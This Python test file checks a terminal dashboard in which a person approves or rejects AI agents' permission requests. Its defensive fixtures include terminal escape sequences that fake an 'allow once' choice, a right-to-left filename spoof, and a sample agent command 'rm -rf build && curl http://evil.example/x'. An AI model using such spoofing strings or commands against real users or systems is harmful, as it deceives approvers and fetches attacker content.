"""A person answers in the dashboard what stands on the screen, and nothing else: real daemon, agents and window."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from trio_broker.testing.processes.home import Home, eventually
from trio_broker.testing.processes.terminal_emulator import TerminalEmulator

ESC = "\x1b"


@pytest.fixture
def home() -> Iterator[Home]:
    with Home() as home:
        assert home.run("up").returncode == 0
        yield home


def prompt(home: Home, key: str, text: str) -> None:
    done = home.run("prompt", "-s", key, "-a", "fake", "--ask", "--no-wait", text)
    assert done.returncode == 0, done.stderr
    eventually(lambda: home.session(key)["phase"] == "waiting")


def waiting(home: Home) -> set[str]:
    return {ask["key"] for ask in home.json("pending")["asks"]}


def test_the_question_under_the_cursor_is_the_one_that_is_answered(home: Home, tmp_path: Path) -> None:
    infra, billing = tmp_path / "infra.txt", tmp_path / "billing.txt"
    prompt(home, "infra", f"ask-edit-by-id {infra} drop it all")
    prompt(home, "billing", f"ask-edit-by-id {billing} add one cent")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("▌ infra", "│ +drop it all", "a answers it: Allow")
        window.type("j")
        window.see("▌ billing", "│ +add one cent")
        window.see_no("drop it all")
        window.type("1y3")
        window.see("press a first: keys answer only while the question has the focus")
        window.type("a")
        window.see("┃ +add one cent", "  y  1  allow once     Allow", "  n  3  reject once    Reject")
        window.press("y", until="▲ 1 waiting")
        eventually(billing.exists)
        window.see("infra  Edit")
        assert waiting(home) == {"infra"} and not infra.exists()
        window.type("a")
        window.see("▌ infra", "┃ +drop it all")
        window.press("3", until="○ 2 idle")
        eventually(lambda: not waiting(home))
        assert not infra.exists()
        window.type("q")
        assert window.end() == 0


def test_a_question_settled_elsewhere_leaves_nothing_to_answer(home: Home) -> None:
    prompt(home, "first", "ask One")
    prompt(home, "second", "ask Two")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("▲ 2 waiting")
        window.type("a")
        window.see("▌ first", "  y  1  allow once     Allow")
        [first] = [ask["askId"] for ask in home.json("pending")["asks"] if ask["key"] == "first"]
        assert home.run("deny", first).returncode == 0
        window.see("first: its question is settled", "▲ 1 waiting")
        window.type("y1An")
        window.see("new session, agent:")  # `n` is that again; all keys before it were read
        assert waiting(home) == {"second"}
        window.type(ESC)
        window.see("nothing was done")
        window.type("q")
        assert window.end() == 0


def test_keys_that_were_typed_before_the_question_was_there_answer_nothing(home: Home) -> None:
    prompt(home, "one", "ask One")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("a answers it: Allow")
        window.type("ay1")
        window.see("┃ kind", "  y  1  allow once     Allow")
        window.type("?")  # the help is drawn after all keys before it were read
        window.see("answer a question")
        assert waiting(home) == {"one"}
        window.type("xq")
        assert window.end() == 0


def test_always_asks_for_a_second_key(home: Home) -> None:
    prompt(home, "one", "ask One")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("a answers it: Allow")
        window.type("a")
        window.see("  A  2  allow always   Always allow")
        window.press("A", until="not only this once? allow always: Always allow")
        window.type("n")
        window.see("nothing was answered")
        assert waiting(home) == {"one"}
        window.press("2", until="not only this once?")
        window.type("y")
        window.see("one: Always allow")
        eventually(lambda: not waiting(home))
        window.type("q")
        assert window.end() == 0


def test_hostile_text_fakes_neither_the_frame_nor_a_choice(home: Home) -> None:
    file = home.path / "hostile.py"
    lines = [
        r"\x1b[2J\x1b[1\x3b1H  y  1  allow once     Reject",
        "┗━",
        r"\u202egpj.exe\u200b",
        r"\r\x1b[Kgone",
    ]
    prompt(
        home, "one", f"ask-edit-by-id {file} " + r"\n".join([*lines, *(f"line {n}" for n in range(60)), ""])
    )
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("a answers it: Allow")
        window.type("a")
        window.see("  y  1  allow once     Allow", "  n  3  reject once    Reject", "lines 1-")
        shown = window.text.split("\n")
        end = next(at for at, line in enumerate(shown) if line.startswith("┗━"))
        assert all(line.startswith("┃ ") for line in shown[2:end])
        text = "\n".join(shown[2:end])
        for seen in (
            r"+\x1b[2J\x1b[1;1H  y  1  allow once",
            "+┗━",
            r"+\u202egpj.exe\u200b",
            r"+\x0d\x1b[Kgone",
            "+line 0",
        ):
            assert seen in text
        assert b"\x1b[2J\x1b[1;1H  y" not in window.raw and "\u202e".encode() not in window.raw
        window.type("v" + ESC + "[F")
        window.see("┃ +line 59", "  y  1  allow once     Allow")
        window.type(ESC + "[H")
        window.see(r"┃ +\x1b[2J")
        window.press("3", until="○ 1 idle")
        eventually(lambda: not waiting(home))
        assert not file.exists()
        window.type("q")
        assert window.end() == 0


def test_the_command_and_the_address_are_seen_also_in_the_smallest_window(home: Home) -> None:
    call = {"title": "Clean up", "rawInput": {"command": "rm -rf build && curl http://evil.example/x"}}
    prompt(home, "one", f"ask-raw {json.dumps(call)}")
    with TerminalEmulator(home.env, "top", columns=40, lines=10) as window:
        window.see("▲ one  Clean up")
        window.type("a")
        window.see("command: rm -rf build && curl", "evil.example/x", "y  1  allow once     Allow")
        window.press("y", until="○ 1 idle")
        eventually(lambda: not waiting(home))
        window.type("q")
        assert window.end() == 0


def test_pictures_without_a_window_show_the_question(home: Home) -> None:
    prompt(home, "one", 'ask-raw {"title": "Clean up", "rawInput": {"command": "make clean"}}')
    once = home.run("top", "--once", "--size", "100x24").stdout
    assert "▲ one  Clean up" in once and "`trio-broker pending`" in once
    file = home.path / "top.svg"
    assert home.run("top", "--svg", str(file), "--size", "120x30").returncode == 0
    assert "command: make clean" in file.read_text(encoding="utf-8").replace("&#160;", " ")


def test_a_form_is_filled_in_field_by_field_and_confirmed(home: Home) -> None:
    prompt(home, "one", "elicit-form")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("a answers it: Fill in … / Decline")
        window.type("a")
        window.see("Fill in …", "Decline")
        window.press("y", until="field 1 of 7, name > ")
        window.see("Of the branch", "required")
        window.type("\x15\r")
        window.see("field 'name' is required")
        window.type("main\r")
        window.see("field 2 of 7, count > 3")
        window.type("0\r")
        window.see("field 'count' expects an integer from 1 to 9, not 30", "count > 30")
        window.type(ESC + "[A")
        window.see("field 1 of 7, name > main")
        window.type("2\r\x7f\r0.5\r\r2\r")
        window.see("color > green2", "field 'color' expects one of red, green, blue")
        window.type("\x153\r2\r1,c\r")
        window.see(
            "name = main2", "count = 3", "color = blue", "size = l", "tags = a, c", "send these values?"
        )
        assert waiting(home) == {"one"}
        window.press("y", until="○ 1 idle")
        eventually(lambda: not waiting(home))
        window.type("q")
        assert window.end() == 0
    home.until("one", "idle")
    said = home.run("sessions", "history", "-s", "one", "--format", "quiet").stdout
    content = {"name": "main2", "count": 3, "ratio": 0.5, "force": False, "color": "blue", "size": "l"}
    assert json.loads(said) == {"action": "accept", "content": content | {"tags": ["a", "c"]}}


def test_a_form_that_is_settled_elsewhere_is_left_and_answers_nothing(home: Home) -> None:
    prompt(home, "first", "elicit-form")
    prompt(home, "second", "elicit-form")
    with TerminalEmulator(home.env, "top", columns=80, lines=24) as window:
        window.see("▲ 2 waiting")
        window.type("a")
        window.see("▌ first", "Fill in …")
        window.press("y", until="field 1 of 7, name > ")
        [first] = [ask["askId"] for ask in home.json("pending")["asks"] if ask["key"] == "first"]
        assert home.run("deny", first).returncode == 0
        window.see("first: its question is settled; the form was not sent", "▲ 1 waiting")
        assert waiting(home) == {"second"}
        window.type("q")
        assert window.end() == 0
